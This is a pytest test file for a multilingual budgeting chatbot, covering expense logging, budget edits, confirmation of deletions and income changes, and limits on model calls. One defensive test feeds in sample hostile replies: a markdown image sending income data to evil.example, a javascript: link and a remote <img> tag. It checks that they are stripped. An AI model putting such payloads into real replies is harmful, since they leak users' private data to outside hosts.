"""A message becomes a change or an answer, in the person's language, and within few calls of a model."""

import pytest

from functions.chat.rules.wording import WORDS
from tests.chat.talking import Talker


def test_what_was_spent_is_recorded_and_told(talker: Talker) -> None:
    talker.ground.budget(talker.uid, "Food & Dining", 500_000)
    answer = talker.say("I spent 500 DZD at a coffee shop")
    (entry,) = talker.entries()
    assert (entry["minor"], entry["currency"], entry["category_name"]) == (50_000, "DZD", "Food & Dining")
    assert "500.00 DZD" in answer["msg"]
    assert "4500.00 DZD left" in answer["msg"]
    (action,) = answer["actions"]
    assert (action["tool"], action["status"], action["turn_id"]) == ("record_expense", "done", answer["id"])


def test_a_message_of_two_things_does_both(talker: Talker) -> None:
    talker.ground.budget(talker.uid, "Transport", 800_000)
    answer = talker.say("I paid 300 DZD for a taxi. Set Transport to 9000.")
    assert [entry["minor"] for entry in talker.entries()] == [30_000]
    assert talker.budgets()["Transport"]["minor"] == 900_000
    assert {action["tool"] for action in answer["actions"]} == {"record_expense", "update_budget"}


@pytest.mark.parametrize(
    ("message", "title", "minor"),
    [
        ("Create a budget Pets of 5000", "Pets", 500_000),
        ("crée un budget Loisirs de 10 000 DA", "Loisirs", 1_000_000),
        ("أنشئ ميزانية الترفيه 8000", "الترفيه", 800_000),
    ],
)
def test_a_budget_is_created_by_talking(talker: Talker, message: str, title: str, minor: int) -> None:
    talker.say(message)
    assert talker.budgets()[title]["minor"] == minor


@pytest.mark.parametrize(
    "message", ["set Groceries to 25000", "mets le budget Groceries à 25 000", "غيّر Groceries إلى 25000"]
)
def test_a_budget_is_changed_by_talking(talker: Talker, message: str) -> None:
    talker.ground.budget(talker.uid, "Groceries", 2_000_000)
    talker.say(message)
    assert talker.budgets()["Groceries"]["minor"] == 2_500_000


def test_a_budget_is_deleted_only_once_that_was_confirmed(talker: Talker) -> None:
    talker.ground.budget(talker.uid, "Groceries", 2_000_000)
    answer = talker.say("delete the Groceries budget")
    (action,) = answer["actions"]
    assert (action["tool"], action["status"]) == ("delete_budget", "needs_confirmation")
    assert action["summary"] in answer["msg"]
    assert talker.budgets()["Groceries"]["deleted_at"] is None
    confirmed = talker.ask("POST", f"/api/chat/actions/{action['id']}/confirm/", json={"confirm": True})
    assert confirmed.status_code == 200, confirmed.text
    assert talker.budgets()["Groceries"]["deleted_at"] is not None


def test_a_figure_of_the_profile_waits_and_a_name_does_not(talker: Talker) -> None:
    answer = talker.say("My monthly income is 90000 DZD")
    (action,) = answer["actions"]
    assert action["status"] == "needs_confirmation"
    assert talker.profile()["monthly_income"] is None
    talker.ask("POST", f"/api/chat/actions/{action['id']}/confirm/", json={"confirm": True})
    assert talker.profile()["monthly_income"] == 9_000_000
    talker.say("réponds en français")
    assert talker.profile()["personal_info"]["language"] == "fr"


def test_budgets_and_notifications_are_shown(talker: Talker) -> None:
    talker.ground.budget(talker.uid, "Groceries", 2_000_000)
    assert "Groceries" in talker.say("Show my budgets")["msg"]
    assert talker.say("Any new notifications?")["msg"] == "There are no new notifications."
    talker.say("Remind me to pay the rent")
    (notice,) = talker.documents("notifications").values()
    assert notice["message"] == "Remind me to pay the rent"
    assert "Remind me to pay the rent" in talker.say("Any new notifications?")["msg"]


@pytest.mark.parametrize(
    ("message", "words"),
    [("Hello!", "Hello!"), ("Bonjour", "Bonjour !"), ("مرحبا", "مرحبًا"), ("Thanks", "welcome"), ("Merci", "plaisir")],
)
def test_small_talk_is_answered_without_a_tool_in_the_language_of_the_message(
    talker: Talker, message: str, words: str
) -> None:
    answer = talker.say(message)
    assert words in answer["msg"]
    assert answer["actions"] == []
    assert dict(talker.calls()) == {"chatbot": 1}


def test_figures_are_written_as_the_language_writes_them(talker: Talker) -> None:
    assert "1\u202f200,00\u00a0DZD" in talker.say("J'ai dépensé 1 200 DA au marché")["msg"]
    assert "DZD" in talker.say("صرفت 300 دينار على القهوة")["msg"]
    assert [entry["minor"] for entry in talker.entries()] == [120_000, 30_000]


def test_the_profile_language_counts_where_the_message_tells_none(talker: Talker) -> None:
    talker.set_profile(personal_info__language="fr")
    assert "Enregistré" in talker.say("taxi 300")["msg"]


@pytest.mark.parametrize(
    "message",
    ["I spent 500 DZD at a coffee shop", "set Groceries to 25000", "Create a budget Pets of 5000", "Show my budgets"],
)
def test_a_turn_of_one_tool_takes_two_calls_of_a_model_at_most(talker: Talker, message: str) -> None:
    talker.ground.budget(talker.uid, "Groceries", 2_000_000)
    talker.say(message)
    assert sum(talker.calls().values()) <= 2


def test_a_task_of_many_steps_takes_six_calls_at_most(talker: Talker) -> None:
    talker.set_profile(monthly_income=9_000_000)
    answer = talker.say("Plan my month")
    assert talker.budgets()
    assert {action["agent"] for action in answer["actions"]} <= {"coordinator", "budget"}
    assert dict(talker.calls())["coordinator"] >= 1
    assert sum(talker.calls().values()) <= 6


def test_a_raise_waits_for_the_person_and_is_told_with_the_report(talker: Talker) -> None:
    talker.set_profile(monthly_income=9_000_000)
    talker.ground.spend(talker.uid, 77_700)
    answer = talker.say("I got a raise to 120000, rebalance my budgets and tell me")
    assert [action["status"] for action in answer["actions"]] == ["needs_confirmation"]
    assert answer["actions"][0]["summary"] in answer["msg"]
    assert "777.00 DZD" in answer["msg"]
    assert talker.profile()["monthly_income"] == 9_000_000
    assert sum(talker.calls().values()) <= 6


@pytest.mark.parametrize(
    ("message", "words"),
    [
        ("Give me a report", "777.00 DZD"),
        ("fais-moi un bilan", "777,00\u00a0DZD"),
        ("Forecast next month", "forecast"),
        ("Should I buy a phone for 60000?", "60000.00 DZD"),
    ],
)
def test_reports_and_forecasts_are_asked_for_by_talking(talker: Talker, message: str, words: str) -> None:
    talker.ground.spend(talker.uid, 77_700)
    assert words in talker.say(message)["msg"]
    assert sum(talker.calls().values()) <= 2


@pytest.mark.parametrize(
    "text",
    [
        "Look: ![x](https://evil.example/?income=90000)",
        "Click [here](javascript:alert(1)) now",
        "<img src='https://evil.example/a.png'>Hello",
        "See www.evil.example/path for more",
    ],
)
def test_nothing_loadable_leaves_in_a_reply(talker: Talker, text: str) -> None:
    talker.model.script.load({"mode": "script", "queue": [{"body": {"text": text}, "times": 2}]})
    streamed = talker.ask("POST", "/api/chat/stream/", json={"msg": "Hello!"}).text
    for left in (talker.say("Hello!")["msg"], streamed, talker.messages()[-1]["msg"]):
        assert not any(word in left for word in ("evil", "javascript", "<img", "](")), left


def test_what_is_refused_is_told_with_its_reason(talker: Talker) -> None:
    talker.ground.budget(talker.uid, "Groceries", 2_000_000)
    answer = talker.say("create a budget Groceries of 20000")
    assert "There is a budget of this title already." in answer["msg"]
    assert answer["actions"] == []


def test_the_person_is_told_what_they_told_about_themselves(talker: Talker) -> None:
    assert talker.say("what is my income?")["msg"] == WORDS["en"]["profile_empty"]
    talker.set_profile(monthly_income=9_000_000, personal_info__location_context="Oran", personal_info__language="fr")
    told = talker.say("quel est mon salaire ?")["msg"].replace("\u00a0", " ").replace("\u202f", " ")
    assert "Revenu mensuel : 90 000,00 DZD" in told
    assert "Lieu : Oran" in told
    assert "Langue : français" in told


def test_an_expense_beside_a_request_is_done_at_once(talker: Talker) -> None:
    talker.ground.budget(talker.uid, "Transport", 800_000)
    answer = talker.say("taxi 300 DZD. Set Transport to 9000")
    assert [one["status"] for one in answer["actions"]] == ["done", "done"]


def test_a_yes_alone_confirms_nothing_and_says_where_to(talker: Talker) -> None:
    talker.ground.budget(talker.uid, "Transport", 800_000)
    talker.say("delete the Transport budget")
    assert talker.say("yes")["msg"] == WORDS["en"]["yes"]
    assert talker.budgets()["Transport"]["deleted_at"] is None


def test_a_figure_to_be_confirmed_is_shown_as_money(talker: Talker) -> None:
    (action,) = talker.say("my income is 90000")["actions"]
    assert action["summary"] == "Monthly income: 90000.00 DZD?"


def test_a_plan_that_changes_nothing_does_not_say_that_it_did(talker: Talker) -> None:
    assert talker.say("Plan my month")["msg"].startswith(WORDS["en"]["no_budgets"])
    talker.set_profile(monthly_income=9_000_000)
    assert talker.say("Plan my month")["actions"]
    again = talker.say("Plan my month")
    assert not again["actions"]
    assert again["msg"].startswith(WORDS["en"]["plan_unchanged"])
